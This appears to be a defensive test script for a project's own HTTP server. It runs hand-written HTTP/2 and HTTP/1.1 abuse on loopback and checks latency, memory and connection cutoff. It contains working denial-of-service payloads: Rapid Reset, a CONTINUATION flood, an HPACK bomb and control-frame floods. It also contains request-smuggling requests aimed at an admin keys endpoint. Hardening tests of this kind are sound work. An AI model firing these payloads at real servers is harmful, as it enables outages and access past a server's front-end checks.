"""HTTP/2 and HTTP/1.1 abuse against a running `orinari serve` (issue #23).

Usage: attacks.py BASE_URL PID [--quick]

Each attack runs on its own while a separate process (the "normal
client", from its own loopback address) keeps asking GET /v1/models on
fresh connections. For each attack it reports what the server did with
the attacker (closed the connection, GOAWAY code, responses), the normal
client's p50/p99 latency and failures during the attack, and the server's
resident memory. It fails (exit 1) when the normal client's p99 passes
100 ms or one of its requests fails, when resident memory grows more than
MEMORY_BOUND_MIB over its level before the first attack, when an attacker
that must be cut off is not, or when a smuggled request is answered.

Frames are written by hand (no HTTP/2 library would send them): the point
is to send what a correct client never does.
"""

import json
import multiprocessing as mp
import os
import socket
import statistics
import struct
import subprocess
import sys
import threading
import time
from urllib.parse import urlsplit

MEMORY_BOUND_MIB = 64
P99_BOUND_MS = 100.0
VICTIM_ADDR = "127.0.0.9"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
GOAWAY_CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x6: "FRAME_SIZE_ERROR",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}


# --- HTTP/2 framing and HPACK, by hand ----------------------------------------


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_int(value, prefix_bits, flags):
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([flags | value])
    out = bytearray([flags | top])
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    b = s if isinstance(s, bytes) else s.encode()
    return hpack_int(len(b), 7, 0) + b


def request_block(path, authority):
    """GET path: :method GET (static 2), :scheme http (6), then :path and
    :authority as literals without indexing (static names 4 and 1)."""
    return (
        b"\x82\x86"
        + hpack_int(4, 4, 0)
        + hpack_str(path)
        + hpack_int(1, 4, 0)
        + hpack_str(authority)
    )


class H2:
    """One raw HTTP/2 connection from `source`, with a reader thread that
    answers SETTINGS (so the server's own settings are acknowledged), and
    notes GOAWAY, RST_STREAM, response HEADERS and the close."""

    def __init__(self, host, port, source, initial=(), ack_settings=True):
        self.sock = socket.create_connection((host, port), timeout=10, source_address=(source, 0))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.goaway = None
        self.resets = 0
        self.responses = 0
        # Response heads that say 200 (`:status` 200 is HPACK static index 8).
        self.ok = 0
        self.closed = threading.Event()
        self.ack_settings = ack_settings
        self.lock = threading.Lock()
        self.send(PREFACE + settings(initial))
        threading.Thread(target=self._read, daemon=True).start()

    def send(self, data):
        """False once the server has closed the connection."""
        try:
            with self.lock:
                self.sock.sendall(data)
            return True
        except OSError:
            self.closed.set()
            return False

    def _read(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    payload = buf[9 : 9 + length]
                    buf = buf[9 + length :]
                    if kind == SETTINGS and not flags & ACK and self.ack_settings:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == GOAWAY:
                        self.goaway = GOAWAY_CODES.get(int.from_bytes(payload[4:8], "big"), hex(int.from_bytes(payload[4:8], "big")))
                    elif kind == RST_STREAM:
                        self.resets += 1
                    elif kind == HEADERS:
                        self.responses += 1
                        self.ok += payload[:1] == b"\x88"
        except OSError:
            pass
        self.closed.set()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# --- the normal client, in a process of its own --------------------------------


def victim(host, port, stop, out):
    """GET /v1/models on a fresh connection every 10 ms until `stop`; sends
    back (start, latency_ms or None) per request."""
    samples = []
    request = f"GET /v1/models HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode()
    while not stop.is_set():
        t0 = time.time()
        ok = False
        try:
            with socket.create_connection((host, port), timeout=5, source_address=(VICTIM_ADDR, 0)) as s:
                s.sendall(request)
                data = b""
                while True:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    data += chunk
                ok = data.startswith(b"HTTP/1.1 200 ")
        except OSError:
            ok = False
        samples.append((t0, (time.time() - t0) * 1000 if ok else None))
        time.sleep(0.01)
    out.send(samples)


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


# --- the attacks ----------------------------------------------------------------
# Each takes (host, port, quick) and returns (facts, must) where `must` lists
# the conditions that failed.


def attacker_ip(i):
    return f"127.0.1.{1 + i % 200}"


def rapid_reset(host, port, quick):
    """CVE-2023-44487: open a stream and cancel it at once, thousands of
    times per connection, on several connections."""
    conns = [H2(host, port, attacker_ip(i)) for i in range(4)]
    block = request_block("/v1/models", f"{host}:{port}")
    per_conn = 2000 if quick else 20000
    sent = 0

    def flood(c):
        nonlocal sent
        stream = 1
        for _ in range(per_conn // 50):
            batch = b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 0x8))
                for s in range(stream, stream + 100, 2)
            )
            stream += 100
            if not c.send(batch):
                return
            sent += 50

    threads = [threading.Thread(target=flood, args=(c,)) for c in conns]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    closed = sum(c.closed.wait(5) for c in conns)
    facts = {"connections": len(conns), "streams_opened_and_reset": sent, "closed_by_server": closed, "goaway": sorted({str(c.goaway) for c in conns})}
    for c in conns:
        c.close()
    return facts, ([] if closed == len(conns) else [f"only {closed} of {len(conns)} flooding connections were closed"])


def continuation_flood(host, port, quick):
    """CVE-2024-27316: a HEADERS frame without END_HEADERS, then endless
    CONTINUATION frames of header bytes."""
    c = H2(host, port, attacker_ip(10))
    c.send(frame(HEADERS, 0, 1, request_block("/v1/models", f"{host}:{port}")))
    junk = b"".join(b"\x00" + hpack_str(f"x-junk-{i}") + hpack_str("a" * 100) for i in range(140))
    sent = 0
    limit = (8 if quick else 64) * 1024 * 1024
    while sent < limit and c.send(frame(CONTINUATION, 0, 1, junk)):
        sent += len(junk)
    closed = c.closed.wait(5)
    facts = {"header_bytes_sent": sent, "closed_by_server": closed, "goaway": c.goaway}
    c.close()
    return facts, ([] if closed and sent < limit else ["the CONTINUATION flood was not cut off"])


def hpack_bomb(host, port, quick):
    """A 4 KB header put in the dynamic table once, then referenced by its
    one-byte index thousands of times: kilobytes on the wire, megabytes
    decoded."""
    c = H2(host, port, attacker_ip(11))
    authority = f"{host}:{port}"
    big = b"\x40" + hpack_str("x-bomb") + hpack_str("b" * 4000)
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block("/v1/models", authority) + big))
    time.sleep(0.2)
    # Static table has 61 entries: the newest dynamic entry is index 62.
    refs = bytes([0x80 | 62]) * 4000
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, request_block("/v1/models", authority) + refs))
    time.sleep(1)
    # The first request is a fair one (a 4 KB header) and may be answered.
    refused = c.ok <= 1
    facts = {"decoded_bytes_asked": 4000 * 4006, "answered_200": c.ok, "resets": c.resets, "goaway": c.goaway, "closed_by_server": c.closed.is_set()}
    c.close()
    return facts, ([] if refused else ["the bomb's 16 MB header list was accepted"])


def control_flood(kind):
    def attack(host, port, quick):
        """Thousands of SETTINGS or PING frames that each demand an answer,
        from a client that never reads the answers."""
        c = H2(host, port, attacker_ip(12 if kind == SETTINGS else 13), ack_settings=False)
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one = settings([(0x3, 100)]) if kind == SETTINGS else frame(PING, 0, 0, b"12345678")
        total = 20000 if quick else 200000
        sent = 0
        deadline = time.time() + (5 if quick else 30)
        c.sock.settimeout(2)
        while sent < total and time.time() < deadline and c.send(one * 500):
            sent += 500
        closed = c.closed.wait(3)
        facts = {"frames_sent": sent, "closed_by_server": closed, "goaway": c.goaway}
        c.close()
        return facts, []

    attack.__name__ = "settings_flood" if kind == SETTINGS else "ping_flood"
    return attack


def zero_window(host, port, quick):
    """Streams opened with a zero flow-control window and never read: the
    server must hold them without buffering answers without bound."""
    conns = [H2(host, port, attacker_ip(20 + i), initial=[(0x4, 0)]) for i in range(4 if quick else 8)]
    block = request_block("/openapi.json", f"{host}:{port}")
    for c in conns:
        c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) for s in range(1, 200, 2)))
    time.sleep(2 if quick else 10)
    facts = {"connections": len(conns), "streams": 100 * len(conns), "refused_streams": sum(c.resets for c in conns)}
    for c in conns:
        c.close()
    return facts, []


def http1(host, port, raw, source, read_for=3.0):
    """Send raw bytes on an HTTP/1.1 connection; everything read until the
    server closes (or `read_for` passes), and whether it closed."""
    with socket.create_connection((host, port), timeout=read_for, source_address=(source, 0)) as s:
        s.sendall(raw)
        data = b""
        end = time.time() + read_for
        closed = False
        while time.time() < end:
            try:
                chunk = s.recv(65536)
            except socket.timeout:
                break
            except OSError:
                closed = True
                break
            if not chunk:
                closed = True
                break
            data += chunk
        return data, closed


def smuggling(host, port, quick):
    """Requests whose framing two parsers could read differently
    (CL.TE, TE.CL, doubled or disguised lengths): each must end in one
    refusal or one answer and a closed connection, never a second,
    smuggled request answered."""
    h = f"Host: {host}:{port}\r\n"
    smuggled = f"GET /admin/v1/keys HTTP/1.1\r\n{h}\r\n"
    cases = {
        "CL.TE": f"POST /v1/chat/completions HTTP/1.1\r\n{h}Content-Length: {5 + len(smuggled)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
        "TE.CL": f"POST /v1/chat/completions HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{len(smuggled) + 5:x}\r\nXXXXX{smuggled}\r\n0\r\n\r\n",
        "two lengths": f"POST /v1/chat/completions HTTP/1.1\r\n{h}Content-Length: 5\r\nContent-Length: {5 + len(smuggled)}\r\n\r\nhello{smuggled}",
        "TE not last chunked": f"POST /v1/chat/completions HTTP/1.1\r\n{h}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{smuggled}",
        "space before colon": f"POST /v1/chat/completions HTTP/1.1\r\n{h}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{smuggled}",
        "obs-fold TE": f"POST /v1/chat/completions HTTP/1.1\r\n{h}X-A: b\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
    }
    # Not here: bare LF line ends, which RFC 9112 lets a server accept (hyper
    # does, as nginx does): such a request is framed like any other.
    facts, must = {}, []
    for i, (name, raw) in enumerate(cases.items()):
        data, closed = http1(host, port, raw.encode(), attacker_ip(30 + i))
        heads = [line for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
        facts[name] = {"answers": [h.decode()[9:12] for h in heads], "closed": closed}
        if len(heads) > 1:
            must.append(f"{name}: {len(heads)} answers on one connection (a smuggled request was served)")
        if not closed:
            must.append(f"{name}: the connection stayed open after an ambiguous request")
    return facts, must


def header_count(host, port, quick):
    """1,000 headers in one request, over HTTP/1.1 and HTTP/2."""
    h = "".join(f"X-H{i}: v\r\n" for i in range(1000))
    data, closed = http1(host, port, f"GET /v1/models HTTP/1.1\r\nHost: {host}:{port}\r\n{h}\r\n".encode(), attacker_ip(40))
    status = data[9:12].decode() if data.startswith(b"HTTP/1.1 ") else None
    c = H2(host, port, attacker_ip(41))
    block = request_block("/v1/models", f"{host}:{port}") + b"".join(b"\x00" + hpack_str(f"x-h{i}") + hpack_str("v") for i in range(1000))
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    time.sleep(1)
    refused = c.ok == 0
    facts = {"http1_status": status, "http1_closed": closed, "h2_answered_200": c.ok, "h2_other_answers": c.responses - c.ok, "h2_resets": c.resets, "h2_goaway": c.goaway}
    c.close()
    must = []
    if status != "431":
        must.append(f"HTTP/1.1: {status} for 1,000 headers, not 431")
    if not refused:
        must.append("HTTP/2: 1,000 headers were accepted")
    return facts, must


def h2load(host, port, quick):
    """A steady flood by nghttp2's h2load: 32 connections, 10 streams each,
    1,600 requests/s (on two cores a flood at full speed leaves no CPU for
    anyone: that is capacity, not abuse)."""
    n = 8000 if quick else 96000
    out = subprocess.run(
        ["h2load", "-n", str(n), "-c", "32", "-m", "10", "-t", "1", "--rps", "50", f"http://{host}:{port}/healthz"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    line = next((l for l in out.stdout.splitlines() if l.startswith("requests:")), out.stdout[-300:])
    rate = next((l for l in out.stdout.splitlines() if l.startswith("finished in")), "")
    return {"h2load": line.strip(), "rate": rate.strip()}, ([] if out.returncode == 0 else [f"h2load exited {out.returncode}"])


ATTACKS = [
    rapid_reset,
    continuation_flood,
    hpack_bomb,
    control_flood(SETTINGS),
    control_flood(PING),
    zero_window,
    smuggling,
    header_count,
    h2load,
]


def main():
    url, pid = sys.argv[1], int(sys.argv[2])
    quick = "--quick" in sys.argv
    parts = urlsplit(url)
    host, port = parts.hostname, parts.port
    baseline = rss_mib(pid)
    stop = mp.Event()
    rx, tx = mp.Pipe(duplex=False)
    normal = mp.Process(target=victim, args=(host, port, stop, tx))
    normal.start()
    time.sleep(1)
    windows, failures, report = [], [], []
    peak = baseline
    for attack in ATTACKS:
        t0 = time.time()
        try:
            facts, must = attack(host, port, quick)
        except Exception as e:  # an attack that breaks is a failure, with its reason
            facts, must = {"error": repr(e)}, [f"the attack itself failed: {e!r}"]
        # At least a second per window: what an attack leaves behind counts too.
        time.sleep(max(0.0, t0 + 1.0 - time.time()))
        t1 = time.time()
        rss = rss_mib(pid)
        peak = max(peak, rss)
        windows.append((attack.__name__, t0, t1))
        report.append({"attack": attack.__name__, "seconds": round(t1 - t0, 2), "rss_mib": round(rss, 1), **facts})
        failures += [f"{attack.__name__}: {m}" for m in must]
        time.sleep(0.3)
    stop.set()
    samples = rx.recv()
    normal.join()
    for entry, (name, t0, t1) in zip(report, windows):
        during = [s for s in samples if t0 <= s[0] <= t1]
        ok = sorted(ms for _, ms in during if ms is not None)
        lost = sum(1 for _, ms in during if ms is None)
        p99 = ok[min(len(ok) - 1, int(len(ok) * 0.99))] if ok else None
        entry["normal_client"] = {
            "requests": len(during),
            "failed": lost,
            "p50_ms": round(statistics.median(ok), 1) if ok else None,
            "p99_ms": round(p99, 1) if p99 is not None else None,
        }
        if lost:
            failures.append(f"{name}: {lost} of the normal client's {len(during)} requests failed")
        if p99 is not None and p99 > P99_BOUND_MS:
            failures.append(f"{name}: the normal client's p99 was {p99:.1f} ms (bound {P99_BOUND_MS:.0f} ms)")
        if not during:
            failures.append(f"{name}: the normal client sent nothing during the attack")
    growth = peak - baseline
    if growth > MEMORY_BOUND_MIB:
        failures.append(f"resident memory grew {growth:.1f} MiB (bound {MEMORY_BOUND_MIB} MiB)")
    for entry in report:
        print(json.dumps(entry))
    total = sum(len([s for s in samples if t0 <= s[0] <= t1]) for _, t0, t1 in windows)
    print(
        f"abuse: {len(ATTACKS)} attacks; normal client {total} requests during them, "
        f"{sum(e['normal_client']['failed'] for e in report)} failed, worst p99 "
        f"{max((e['normal_client']['p99_ms'] or 0) for e in report):.1f} ms; "
        f"memory {baseline:.0f} MiB before, peak {peak:.0f} MiB (+{growth:.1f}, bound {MEMORY_BOUND_MIB})"
    )
    for f in failures:
        print(f"abuse: FAIL {f}")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
